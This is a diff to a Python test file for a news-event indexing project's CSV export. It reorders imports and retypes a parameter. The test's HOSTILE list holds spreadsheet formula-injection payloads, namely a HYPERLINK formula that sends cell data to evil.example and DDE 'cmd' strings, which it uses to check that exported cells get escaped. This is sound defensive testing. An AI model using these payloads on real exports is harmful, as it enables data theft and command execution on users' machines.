@@ -8,19 +8,19 @@ from datetime import date
 
 import pytest
 from elasticsearch import Elasticsearch
-from khabar.index.store import Store
-from khabar.index.writer import BulkWriter
 
-from khabar.app.export import export
+from khabar.app.export import Format, export
 from khabar.core.records import EventMention, Location, Perpetrator
 from khabar.core.settings import Settings
+from khabar.index.store import Store
+from khabar.index.writer import BulkWriter
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "gtd-csv"])
-def test_csv_cells_starting_like_formulas_are_prefixed_with_a_quote(settings: Settings, es: Elasticsearch, fmt: str) -> None:
+def test_csv_cells_starting_like_formulas_are_prefixed_with_a_quote(settings: Settings, es: Elasticsearch, fmt: Format) -> None:
     with BulkWriter(es, settings, refresh="wait_for") as writer:
         for n, text in enumerate(HOSTILE):
             mention = EventMention(article_id=f"a{n}", position=0, date=date(2025, 3, 4), event_type="bombing",
